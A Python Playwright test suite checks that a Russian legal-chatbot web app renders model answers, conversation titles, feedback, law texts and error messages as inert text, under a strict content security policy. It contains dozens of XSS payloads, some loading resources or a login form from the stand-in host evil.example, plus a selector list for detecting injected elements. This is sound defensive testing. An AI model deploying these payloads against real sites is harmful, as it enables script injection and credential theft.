"""Whatever a model, a person or a file says stays words: nothing runs, nothing is loaded, nothing new stands there."""

from __future__ import annotations

from urllib.parse import quote

import pytest
from playwright.sync_api import Dialog, Locator, Page, Request, Route, expect

from tests.e2e.conftest import openai_env
from tests.page.conftest import Open, Serve
from tests.page.laws import Load
from tests.page.talk import Talk
from tests.support.browser import Console
from tests.support.fake_openai import FakeOpenAI
from tests.support.server import ServerProcess

pytest_plugins = ["tests.page.law_server"]

TABLE = {
    "scripts": [
        "<script>hit(1)</script>",
        "<SCRIPT/SRC=//evil.example/a.js></SCRIPT>",
        "<scr<script>ipt>hit(1)</scr</script>ipt>",
        "<style>@import '//evil.example/a.css'; * { display: none }</style>",
        '<link rel=stylesheet href="//evil.example/a.css"><base href="//evil.example/">',
        '<meta http-equiv=refresh content="0;url=//evil.example/">',
    ],
    "handlers": [
        "<img src=x onerror=hit(1)>",
        "<img src=x:x onerror='hit(1)'//",
        "<div onpointerover=hit(1) style='position:fixed;inset:0'>тут</div>",
        "<details open ontoggle=hit(1)><summary>тут</summary></details>",
        "<input autofocus onfocus=hit(1)><video><source onerror=hit(1)></video>",
        "<a href=# onclick=hit(1)>тут</a><body onload=hit(1)>",
        "<button popovertarget=menu>тут</button><dialog open>тут</dialog>",
    ],
    "drawings": [
        "<svg onload=hit(1)><script>hit(1)</script></svg>",
        "<svg><a xlink:href='javascript:hit(1)'><text y=20>тут</text></a></svg>",
        "<svg><use href='data:image/svg+xml,<svg id=x onload=hit(1)></svg>#x'/></svg>",
        "<svg><style><img src=x onerror=hit(1)></style></svg>",
        "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=hit(1)&gt;'>",
        "<math href='javascript:hit(1)'>тут</math>",
        "<noscript><p title='</noscript><img src=x onerror=hit(1)>'></noscript>",
    ],
    "frames": [
        "<iframe src='javascript:parent.hit(1)'></iframe>",
        "<iframe srcdoc='<script>parent.hit(1)</script>'></iframe>",
        "<object data='javascript:hit(1)'></object><embed src='//evil.example/a.swf'>",
        "<form action='//evil.example/'><input name=key><button>Войти</button></form>",
    ],
    "links": [
        "[тут](javascript:hit(1))",
        "[тут](JaVaScRiPt:hit(1))",
        "[тут](java&#115;cript:hit(1))",
        "[тут](java\tscript:hit(1))",
        "[тут](\x01javascript:hit(1))",
        "[тут](vbscript:hit(1))",
        "[тут](data:text/html,<script>hit(1)</script>)",
        "[тут](data:text/html;base64,PHNjcmlwdD5oaXQoMSk8L3NjcmlwdD4=)",
        "<javascript:hit(1)>",
        "[тут][злая]\n\n[злая]: javascript:hit(1)",
        "[тут](https://evil.example/'onmouseover='hit(1))",
        '[тут](https://evil.example/ "x" onclick="hit(1)")',
        "<a href='javascript:hit(1)'>тут</a>",
    ],
    "pictures": [
        "![снимок](https://evil.example/a.png)",
        '![" onerror="hit(1)](x)',
        "![снимок](javascript:hit(1))",
        "[![снимок](//evil.example/a.png)](https://evil.example/)",
        "![снимок][злой]\n\n[злой]: https://evil.example/b.png",
        "<img src=https://evil.example/c.png><picture><source srcset=//evil.example/d.png></picture>",
        "![](data:image/svg+xml,<svg onload=hit(1)>)",
    ],
    "names": [
        "<a id=location name=location href=x>тут</a><form id=document name=cookie></form>",
        "<img name=getElementById><input id=attributes><form name=body><input name=firstChild></form>",
        "# __proto__ {#constructor}\n\n[constructor]: x\n\n[__proto__]: y\n\n[constructor] [__proto__] [toString]",
    ],
    "templates": [
        "${hit(1)} {{hit(1)}} {hit(1)} <%= hit(1) %> #{hit(1)} {@html hit(1)} `${hit(1)}`",
        "{{constructor.constructor('hit(1)')()}} {#if hit(1)}{/if}",
        "`<img src=x onerror=hit(1)>`",
        "```html\n</code></pre><img src=x onerror=hit(1)>\n```",
        '```"><img src=x onerror=hit(1)>\nтут\n```',
        "| a |\n|---|\n| <img src=x onerror=hit(1)> |",
        "- <svg/onload=hit(1)>\n1. <svg/onload=hit(1)>",
        "> <iframe src=javascript:hit(1)>",
        "&lt;img src=x onerror=hit(1)&gt; &#60;script&#62;hit(1)&#60;/script&#62;",
        "[1<img src=x onerror=hit(1)>] [1](javascript:hit(1)) ст. 3<svg/onload=hit(1)> закона о рекламе",
        "\ue000<img src=x onerror=hit(1)>\ue100\ue000",
    ],
}
NASTY = (
    "<img src=x onerror=hit(1)><svg/onload=hit(1)>${hit(1)}{{hit(1)}}[тут](javascript:hit(1))<script>hit(1)</script>"
)
RUSSIAN = "Владелец лавки вешает вывеску над своей дверью и снимает её, когда она обветшает. " * 12
# What is in an answer, a law or a list and could not have been put there by the page itself.
FOREIGN = """place => {
    const bad = 'script, style, link, base, meta, img, picture, source, video, audio, iframe, object, embed, math, ' +
        'template, dialog, noscript, [src], [srcset], [srcdoc], [formaction], [action], [style*=fixed], [name], ' +
        '[popovertarget], [contenteditable], [autofocus], svg :not(path, circle, rect, line, g)';
    const own = element => element.matches('[type=radio], textarea[name=question]');
    const found = [...place.querySelectorAll(bad)].filter(element => !own(element));
    for (const element of place.querySelectorAll('*')) {
        if (element.getAttributeNames().some(name => name.startsWith('on'))) found.push(element);
        if (element.matches('svg') && !element.closest('button, a')) found.push(element);
        const href = element.getAttribute('href') ?? element.getAttribute('xlink:href');
        if (href && !/^(https?:|[/]|#)/.test(href)) found.push(element);
    }
    return found.map(element => element.outerHTML.slice(0, 200));
}"""
CLOBBERED = "['location', 'cookie', 'attributes', 'x', 'key'].filter(name => document.getElementById(name))"


class Watch:
    """Of a page: what ran, what was asked for elsewhere, what popped up."""

    def __init__(self, page: Page, server: ServerProcess) -> None:
        self._page, self._server = page, server
        self._strange: list[str] = []
        page.context.on("request", self._requested)
        page.on("dialog", self._asked)
        page.context.on("page", lambda opened: self._strange.append(f"page {opened.url}"))
        page.add_init_script("window.hits = 0; window.hit = () => (window.hits += 1);")
        page.reload()

    def _requested(self, request: Request) -> None:
        if not request.url.startswith((self._server.url, "blob:")):
            self._strange.append(f"{request.resource_type} {request.url}")

    def _asked(self, dialog: Dialog) -> None:
        self._strange.append(f"dialog {dialog.message}")
        dialog.dismiss()

    def is_quiet(self, place: Locator, about: str = "") -> None:
        """Nothing ran and nothing came or left; nothing stands in this place that the page has not put there."""
        assert place.evaluate(FOREIGN) == [], about
        assert self._page.evaluate("window.hits") == 0, about
        assert self._page.evaluate(CLOBBERED) == [], about
        assert self._strange == [], about
        assert self._page.url.startswith(self._server.url)


@pytest.fixture(scope="module")
def server(writer: FakeOpenAI, serve_once: Serve) -> ServerProcess:
    """It writes what `writer` is told to say."""
    return serve_once("", env=openai_env(writer))


@pytest.mark.parametrize("kind", TABLE)
def test_an_answer(kind: str, writer: FakeOpenAI, server: ServerProcess, open_page: Open) -> None:
    page = open_page(server)
    watch = Watch(page, server)
    talk = Talk(page)
    for number, words in enumerate(TABLE[kind]):
        writer.behaviour.text = f"Начало. {words}\n\nКонец."
        answer = talk.ask(f"Вопрос {number}?")
        answer.ends()
        expect(answer.region).to_contain_text("Начало.")
        watch.is_quiet(answer.region, words)
        for link in answer.region.get_by_role("link").all():
            link.dispatch_event("pointerover")
            link.dispatch_event("mouseover")
    watch.is_quiet(page.get_by_role("main"))


def test_a_safe_link_leads_away_and_tells_nothing_of_us(
    writer: FakeOpenAI, server: ServerProcess, open_page: Open
) -> None:
    page = open_page(server)
    writer.behaviour.text = "Смотрите [тут](https://example.org/law)."
    answer = Talk(page).ask("Куда смотреть?")
    answer.ends()
    link = answer.region.get_by_role("link", name="тут", exact=True)
    expect(link).to_have_attribute("href", "https://example.org/law")


def test_a_question_and_the_name_of_a_conversation(writer: FakeOpenAI, server: ServerProcess, open_page: Open) -> None:
    writer.behaviour.text = "Ответ."
    page = open_page(server)
    watch = Watch(page, server)
    talk = Talk(page)
    talk.ask(NASTY).ends()
    expect(page.get_by_role("heading", level=2)).to_have_text(NASTY)
    shelf = page.get_by_role("complementary", name="Беседы", exact=True)
    expect(shelf.get_by_role("link", name="<img src=x").first).to_be_visible()
    watch.is_quiet(page.get_by_role("main"))
    shelf.get_by_role("button", name="Действия с беседой «<img").first.click()
    page.get_by_role("button", name="Переименовать", exact=True).click()
    shelf.get_by_role("textbox", name="Название беседы").fill(f"Имя {NASTY}")
    shelf.get_by_role("button", name="Сохранить", exact=True).click()
    expect(shelf.get_by_role("link", name="Имя <img src=x")).to_be_visible()
    watch.is_quiet(page.get_by_role("main"))
    shelf.get_by_role("searchbox").fill("<img onerror=hit(1)>")
    expect(shelf.get_by_role("status").first).to_contain_text("Нашлось")
    watch.is_quiet(page.get_by_role("main"))
    shelf.get_by_role("searchbox").fill("")
    shelf.get_by_role("button", name="Действия с беседой «Имя").click()
    page.get_by_role("button", name="Удалить", exact=True).click()
    expect(page.get_by_text("Беседа «Имя <img")).to_be_visible()
    watch.is_quiet(page.get_by_role("main"))


def test_an_opinion_read_by_the_administrator(writer: FakeOpenAI, server: ServerProcess, open_page: Open) -> None:
    writer.behaviour.text = NASTY
    page = open_page(server)
    watch = Watch(page, server)
    answer = Talk(page).ask(f"Отзыв {NASTY}")
    answer.ends()
    answer.button("Не помогло").click()
    form = answer.region.get_by_role("form", name="Что не так", exact=True)
    form.get_by_role("textbox").fill(f"Слова {NASTY}")
    form.get_by_role("button", name="Отправить", exact=True).click()
    expect(answer.button("Отозвать")).to_be_visible()
    page.goto(f"{server.url}/admin")
    opinions = page.get_by_role("region", name="Отзывы", exact=True)
    expect(opinions.get_by_text(f"Слова {NASTY}")).to_be_visible()
    opinions.get_by_text("Ответ: Отзыв").click()
    watch.is_quiet(opinions)


def test_a_law(load_law: Load, serve_law: Serve, open_page: Open) -> None:
    evil = f"""ФЕДЕРАЛЬНЫЙ ЗАКОН
О рекламе
(в ред. Федерального закона от 01.02.2024 N 1-ФЗ)
Глава 1. Общее {NASTY}
Статья 1. Вывеска {NASTY}
1. Вывеска висит над дверью. {NASTY}
{RUSSIAN}
2. Листовку раздают даром. {NASTY}
Статья 2. Вторая {NASTY}
Вторая статья. {NASTY}
{RUSSIAN}
13 марта 2006 года
N 38-ФЗ
"""
    server = serve_law("Вывеска [1].", state=load_law([evil]))
    page = open_page(server, "/law/reklama")
    watch = Watch(page, server)
    expect(page.get_by_role("heading", level=1)).to_be_visible()
    main = page.get_by_role("main")
    expect(main.get_by_role("link", name="Вывеска <img")).to_be_visible()
    watch.is_quiet(main)
    page.get_by_role("searchbox").fill("вывеска onerror")
    expect(page.get_by_role("list", name="Что нашлось", exact=True).get_by_role("link").first).to_be_visible()
    page.goto(f"{server.url}/law/reklama/1")
    expect(page.get_by_role("article")).to_contain_text(f"Вывеска висит над дверью. {NASTY}")
    watch.is_quiet(page.get_by_role("article"))
    page.goto(f"{server.url}/chat")
    answer = Talk(page).ask("Что говорит статья 1 закона о рекламе?")
    answer.ends()
    answer.region.get_by_role("button", name="Источник 1:").click()
    panel = page.get_by_role("complementary", name="Источник", exact=True)
    expect(panel).to_contain_text(f"Вывеска висит над дверью. {NASTY}")
    watch.is_quiet(panel)
    watch.is_quiet(main)


def test_an_error_and_an_address(server: ServerProcess, open_page: Open, console: Console) -> None:
    console.outage = True  # the browser logs refusals
    page = open_page(server)
    watch = Watch(page, server)

    def refuse(route: Route) -> None:
        error = {"code": "bad_request", "message": f"Ошибка {NASTY}", "type": "invalid_request_error"}
        route.fulfill(status=400, json={"error": error})

    page.route("**/v1/responses", refuse)
    talk = Talk(page)
    talk.box.fill("Что не так?")
    talk.press("Спросить")
    expect(page.get_by_role("alert").filter(has_text=f"Ошибка {NASTY}")).to_be_visible()
    watch.is_quiet(page.get_by_role("main"))
    evil = quote(NASTY, safe="")
    for path in (f"/law/{evil}", f"/law/reklama/{evil}", f"/law/tk?q={evil}", f"/law/tk?on={evil}", f"/chat/{evil}"):
        page.goto(f"{server.url}{path}#{evil}")
        expect(page.get_by_role("heading", level=1)).to_be_attached()
        watch.is_quiet(page.get_by_role("main"), path)


@pytest.mark.parametrize("path", ["/chat", "/law/tk/136", "/admin"])
def test_every_view_comes_with_the_policy(path: str, server: ServerProcess, open_page: Open, console: Console) -> None:
    page = open_page(server)
    reply = page.goto(server.url + path)
    assert reply is not None
    policy = reply.headers["content-security-policy"]
    assert "default-src 'none'" in policy
    assert "script-src 'self'" in policy
    assert "require-trusted-types-for 'script'" in policy
    assert "unsafe" not in policy
    expect(page.get_by_role("main")).to_be_visible()
    refused = page.evaluate("try { document.body.innerHTML = '<b>1</b>'; 'written' } catch (error) { error.name }")
    assert refused == "TypeError"
    console.said.remove("error: This document requires 'TrustedHTML' assignment. The action has been blocked.")
